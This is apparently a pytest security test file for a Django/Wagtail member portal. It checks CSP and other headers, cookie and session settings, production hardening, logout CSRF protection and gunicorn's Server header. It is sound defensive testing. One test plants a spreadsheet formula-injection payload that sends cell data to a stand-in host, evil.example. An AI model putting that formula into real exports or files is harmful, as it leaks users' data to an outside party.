"""Security headers, cookies and cache rules on real responses."""

import pytest
from django.test import Client, override_settings

pytestmark = pytest.mark.django_db


def csp(response):
    return dict(
        (part.split(" ", 1) + [""])[:2] for part in (p.strip() for p in response["Content-Security-Policy"].split(";"))
    )


@pytest.mark.parametrize("path", ["/", "/impressum/", "/konto/login/"])
def test_public_pages_have_strict_headers(site, path):
    response = Client().get(path)
    assert response.status_code == 200
    policy = csp(response)
    assert policy["script-src"] == "'self'"
    assert "unsafe" not in response["Content-Security-Policy"]
    assert policy["frame-ancestors"] == "'none'"
    assert policy["object-src"] == "'none'"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "strict-origin-when-cross-origin"
    assert response["X-Frame-Options"] == "DENY"
    assert "camera=()" in response["Permissions-Policy"]
    assert "geolocation=()" in response["Permissions-Policy"]


def test_members_pages_are_private_and_strict(people):
    response = people.client("member_a").get("/mein-bereich/")
    assert response["Cache-Control"] == "private, no-store"
    assert "unsafe" not in csp(response)["script-src"]


def test_anonymous_public_page_is_not_marked_private(site):
    assert "no-store" not in Client().get("/impressum/").get("Cache-Control", "")


def test_admin_has_its_own_relaxed_policy(people):
    response = people.client("editor").get("/admin/")
    assert response.status_code == 200
    assert "'unsafe-inline'" in csp(response)["script-src"]
    assert csp(response)["frame-ancestors"] == "'none'"
    assert response["Cache-Control"] == "private, no-store"


@override_settings(
    SECURE_HSTS_SECONDS=31536000,
    SECURE_HSTS_INCLUDE_SUBDOMAINS=True,
    SECURE_HSTS_PRELOAD=True,
    SECURE_SSL_REDIRECT=True,
    SESSION_COOKIE_SECURE=True,
    CSRF_COOKIE_SECURE=True,
)
def test_production_https_headers_and_cookies(people):
    client = Client()
    assert client.get("/konto/login/").status_code == 301  # plain HTTP goes to HTTPS
    response = client.get("/konto/login/", secure=True)
    assert response["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains; preload"
    csrf = response.cookies["csrftoken"]
    assert csrf["secure"] and csrf["httponly"] and csrf["samesite"] == "Lax"
    response = client.post(
        "/konto/login/", {"login": "mitglied-a@example.org", "password": "Sicheres-Test-Passwort-42"}, secure=True
    )
    session = response.cookies["sessionid"]
    assert session["secure"] and session["httponly"] and session["samesite"] == "Lax"


def test_session_idle_timeout_slides_with_at_most_one_write_a_minute(settings, people):
    from portal.middleware import REFRESHED_KEY

    assert 0 < settings.SESSION_COOKIE_AGE <= 8 * 3600
    assert not getattr(settings, "SESSION_SAVE_EVERY_REQUEST", False)
    client = people.client("member_a")
    response = client.get("/mein-bereich/")
    assert response.cookies["sessionid"]["max-age"] == settings.SESSION_COOKIE_AGE  # renewed
    renewed = client.session[REFRESHED_KEY]
    response = client.get("/mein-bereich/")
    assert "sessionid" not in response.cookies  # within the minute: no session write
    session = client.session
    session[REFRESHED_KEY] = renewed - settings.SESSION_REFRESH_SECONDS  # a minute later
    session.save()
    response = client.get("/mein-bereich/")
    assert response.cookies["sessionid"]["max-age"] == settings.SESSION_COOKIE_AGE
    assert client.session[REFRESHED_KEY] >= renewed


def test_production_settings_are_hardened(monkeypatch):
    import importlib

    monkeypatch.setenv("SECRET_KEY", "x" * 60)
    module = importlib.import_module("portal.settings.production")
    module = importlib.reload(module)
    assert module.DEBUG is False
    assert module.SESSION_COOKIE_SECURE and module.CSRF_COOKIE_SECURE
    assert module.SECURE_HSTS_SECONDS >= 31536000
    assert module.STORAGES["staticfiles"]["BACKEND"] == "whitenoise.storage.CompressedManifestStaticFilesStorage"


def test_production_refuses_to_start_without_secret_key(monkeypatch):
    import importlib

    from django.core.exceptions import ImproperlyConfigured

    monkeypatch.delenv("SECRET_KEY", raising=False)
    with pytest.raises(ImproperlyConfigured):
        importlib.reload(importlib.import_module("portal.settings.production"))


def test_rate_limits_use_a_real_cache(settings):
    assert "DummyCache" not in settings.CACHES["default"]["BACKEND"]


LOGOUT_URLS = ["/admin/logout/", "/konto/logout/", "/django-admin/logout/"]


@pytest.mark.parametrize("url", LOGOUT_URLS)
def test_logout_only_by_post_with_csrf(people, settings, url):
    """A link or image pointing at a logout URL (GET) neither ends the session nor drops its cookie."""
    user = people.users["editor"]
    user.is_staff = user.is_superuser = True  # may use the Django admin too
    user.save()
    client = Client(enforce_csrf_checks=True)
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    session_key = client.session.session_key

    response = client.get(url)
    assert response.status_code in (200, 405)
    cookie = response.cookies.get(settings.SESSION_COOKIE_NAME)
    assert cookie is None or cookie.value == session_key, "GET must not delete the session cookie"
    assert client.post(url).status_code == 403  # no CSRF token
    assert client.cookies[settings.SESSION_COOKIE_NAME].value == session_key
    assert client.get("/konto/profil/").status_code == 200

    client = Client()  # with a valid CSRF token (not checked by this client) the logout works
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    client.post(url)
    assert client.get("/konto/profil/").status_code == 302


def test_gunicorn_does_not_name_itself_in_the_server_header():
    """`make serve` (and the systemd unit in docs/deployment.md) start gunicorn with our config."""
    import importlib.util
    import os
    import socket
    import subprocess
    import time
    import urllib.request
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    spec = importlib.util.spec_from_file_location("serve", root / "scripts" / "serve.py")
    serve = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(serve)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "portal.settings.test", "GUNICORN_ACCESS_LOG": "/dev/null"}
    command = serve.gunicorn_command("127.0.0.1", port, 1, env)
    assert "/srv/portal/app/gunicorn.conf.py" in (root / "docs" / "deployment.md").read_text()
    server = subprocess.Popen(command, cwd=root, env=env, stderr=subprocess.PIPE)  # noqa: S603
    try:
        for _ in range(200):
            try:
                response = urllib.request.urlopen(f"http://127.0.0.1:{port}/robots.txt", timeout=5)  # noqa: S310
                break
            except OSError:
                assert server.poll() is None, server.stderr.read().decode()
                time.sleep(0.1)
        assert response.status == 200
        headers = str(response.headers).lower()
        assert "gunicorn" not in headers
    finally:
        server.terminate()
        server.wait(timeout=10)


def test_wagtail_report_exports_neutralise_formula_injection(people, site):
    """Wagtail's own reports (here the site history, where members' actions appear with their
    names) export a member named like a formula as plain text, in CSV and XLSX."""
    import csv
    import io

    from openpyxl import load_workbook
    from wagtail.log_actions import log
    from wagtail.models import Page

    evil = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
    member = people.users["member_a"]
    member.first_name, member.last_name = evil, ""
    member.save()
    log(instance=Page.objects.get(depth=2), action="wagtail.edit", user=member)
    client = people.client("editor")

    response = client.get("/admin/reports/site-history/?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + evil in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]

    response = client.get("/admin/reports/site-history/?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [c.value for row in sheet.iter_rows(min_row=2) for c in row]
    assert "'" + evil in values
